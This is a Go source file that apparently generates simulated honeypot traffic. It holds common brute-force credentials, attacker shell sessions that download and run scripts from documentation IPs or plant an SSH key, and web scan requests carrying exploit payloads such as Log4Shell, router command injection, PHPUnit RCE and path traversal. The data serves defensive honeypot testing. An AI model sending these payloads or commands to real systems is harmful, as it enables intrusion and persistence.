package simulate

// All lists start with the most common entries. Attackers' download hosts are
// addresses and names for documentation (RFC 5737, RFC 2606).

var users = []string{"root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "support", "guest", "pi", "git",
	"ftpuser", "nagios", "hadoop", "mysql", "deploy", "dev", "es", "www-data", "tomcat", "jenkins", "minecraft", "steam",
	"ec2-user", "centos", "debian", "administrator", "server", "backup", "demo", "sysadmin", "vagrant", "default", "ubnt",
	"supervisor", "telecomadmin", "345gs5662d34", "operator", "solana", "validator", "sol", "node", "trader", "a", "nobody"}

var passwords = []string{"123456", "admin", "password", "root", "1234", "12345", "345gs5662d34", "3245gs5662d34", "123456789",
	"12345678", "test", "qwerty", "P@ssw0rd", "1", "123", "admin123", "ubuntu", "user", "default", "vizxv", "xc3511",
	"888888", "guest", "support", "changeme", "1qaz2wsx", "raspberry", "oracle", "postgres", "letmein", "passw0rd", "toor",
	"000000", "111111", "abc123", "!QAZ2wsx", "zaq1@WSX", "Passw0rd!", "<blank>", "root&toor", `it"s`, "p'a'ss", "пароль",
	"密码123", "contraseña", "Müller2024", "%00", "a b c", "1q2w3e4r", "hunter2"}

// passwordForms generate passwords that are seen only once.
var passwordForms = []string{"{word}", "{word}123", "{word}@2024", "{word}!", "1{word}1", "#{word}&<{word}>"}

var mailUsers = []string{"admin", "info", "test", "root", "postmaster", "sales", "support", "webmaster", "office", "contact",
	"user@example.org", "info%40example.com", "noreply@example.net", "scan", "backup", "a%2Cb"}

var sshVersions = []string{"SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-PUTTY",
	"SSH-2.0-libssh-0.6.3", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", "SSH-2.0-paramiko_2.12.0",
	"SSH-2.0-ZGrab ZGrab SSH Survey", "SSH-2.0-AsyncSSH_2.1.0", "SSH-2.0-JSCH-0.1.54"}

var shellLines = []string{
	"cd /data/local/tmp/; rm -rf *; busybox wget http://203.0.113.66/bot.sh; sh bot.sh {word}",
	"cd /data/local/tmp; toybox nc 203.0.113.66 9999 > {word}",
	"pm path com.example.miner", "ps | grep {word}", "am start -n com.example.test/.MainActivity",
}

// scripts are the commands of a cowrie session, line by line.
var scripts = [][]string{
	{"uname -a"},
	{"uname -s -v -n -r -m"},
	{"cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
		"ls -lh $(which ls)", "crontab -l", "w", "uname -m", "top", "whoami", "lscpu | grep Model"},
	{"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox {word}", "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {word}",
		"tftp; wget; /bin/busybox {word}", "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", "/bin/busybox {word}", "exit"},
	{"echo -e \"\\x6F\\x6B\""},
	{"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.66/bins.sh; chmod 777 bins.sh; sh bins.sh {word}; rm -rf bins.sh"},
	{"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E{word} user@host.example\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh", "cat /proc/cpuinfo"},
	{"nproc; uname -a", "echo \"it's\""},
	{"/ip cloud print", "ifconfig", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'", "ls -la /var/run/gcc.pid", "echo Hi | cat -n"},
	{"lspci | grep VGA", "history -c; rm -f ~/.bash_history", "curl -s http://198.51.100.23/{word} | bash"},
	{"printf '\x00\x01\t{word}\r\n'", "exit"},
}

// probes are data that honeytrap receives on ports where nothing listens.
var probes = []string{
	"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n",
	"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 65\r\n\r\n{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"eth_blockNumber\",\"params\":[]}\r\n",
	"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
	"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03{word}{word}\x00\x00\x20\xc0\x2f\xc0\x30\xc0\x2b\xc0\x2c\xcc\xa8\xcc\xa9",
	"*1\r\n$4\r\nINFO\r\n",
	"\x00\x00\x00\x85\xff\x53\x4d\x42\x72\x00\x00\x00\x00\x18\x53\xc8\x00\x00\x00\x00NT LM 0.12\x00",
	"GET /cgi-bin/authLogin.cgi HTTP/1.1\r\nHost: {host}:8080\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n",
	"GET / HTTP/1.0\r\n\r\n",
	"CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\n",
	"SSH-2.0-Go\r\n",
	"\x05\x01\x00",
	"\x04\x01\x00\x50\xcb\x00\x71\x05\x00",
	"OPTIONS sip:{word}@{host} SIP/2.0\r\nVia: SIP/2.0/TCP {host}:5060\r\nFrom: <sip:{word}@{host}>\r\nContent-Length: 0\r\n\r\n",
	"GET /v1.24/containers/json HTTP/1.1\r\nHost: {host}:2375\r\nUser-Agent: Docker-Client/19.03\r\n\r\n",
	"t3 12.2.1\nAS:255\nHL:19\nMS:10000000\nPU:t3://{host}:7001\n\n",
	"JRMI\x00\x02K",
	"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: {host}:37215\r\nContent-Length: 24\r\n\r\n<s:Envelope>{word}</s:Envelope>",
	"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n",
	"\x17\x00\x03\x2a\x00\x00\x00\x00",
	"CNXN\x00\x00\x00\x01\x00\x00\x10\x00host::\x00",
	"\x00\x1e\x00\x06\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07version\x04bind\x00\x00\x10\x00\x03",
	"MGLNDD_{host}_8545\n",
}

// page is a page that web scanners request.
type page struct{ method, path, form string }

var pages = []page{
	{"GET", "/", ""},
	{"GET", "/.env", ""},
	{"GET", "/favicon.ico", ""},
	{"GET", "/.git/config", ""},
	{"POST", "/wp-login.php", "log=admin&pwd=admin123&wp-submit=Log+In"},
	{"GET", "/robots.txt", ""},
	{"GET", "/boaform/admin/formLogin?username=ec8&psd=ec8", ""},
	{"GET", "/wp-content/plugins/{word}/readme.txt", ""},
	{"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/{word})", ""},
	{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo md5('{word}');?>"},
	{"GET", "/actuator/health", ""},
	{"GET", "/solr/admin/info/system?wt=json", ""},
	{"GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={word}", ""},
	{"GET", "/?x=${jndi:ldap://{host}:1389/{word}}", ""},
	{"GET", "/search?q=<script>alert('{word}')</script>", ""},
	{"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/{word};sh+/tmp/{word}", ""},
	{"POST", "/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&dest_host=`id`;{word}"},
	{"GET", "/manager/html", ""},
	{"GET", "/phpmyadmin/index.php?lang=en", ""},
	{"POST", "/login", "username=admin&password=' OR '1'='1"},
	{"GET", "/../../../../etc/passwd", ""},
	{"GET", "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", ""},
	{"HEAD", "/{word}.php", ""},
	{"GET", "/sitemap.xml", ""},
	{"PROPFIND", "/", ""},
	{"GET", "/api/v1/pods", ""},
	{"OPTIONS", "/", ""},
}

var userAgents = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
	"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Hello, world", "-",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"}

var elasticPaths = []string{"/", "/_cat/indices", "/_nodes", "/_search?pretty", "/_cluster/health", "/.kibana/_search?q=\"type\":\"index-pattern\"", "/_all/_search?size=1"}

var cves = []string{"CVE-2017-0144", "CVE-2021-44228", "CVE-2023-1389", "CVE-2024-4577", "CVE-2019-0708", "CVE-2018-10561",
	"CVE-2017-5638", "CVE-2022-26134", "CVE-2020-11899", "CVE-2002-0013 CVE-2002-0012", "CVE-2021-3449", "CVE-2019-12263"}

var conpotTalks = []struct{ kind, request, response string }{
	{"guardian_ast", `b'\x01I20100\n'`, "IN-TANK INVENTORY"},
	{"kamstrup_protocol", `b'\x80\x3f\x10\x01\x04\x1e\x7a\xbb\x0d'`, ""},
	{"IEC104", `b'h\x04C\x00\x00\x00'`, `b'h\x04\x83\x00\x00\x00'`},
	{"ipmi", "", ""},
	{"kamstrup_management_protocol", `b'H{word}\r\n'`, ""},
}
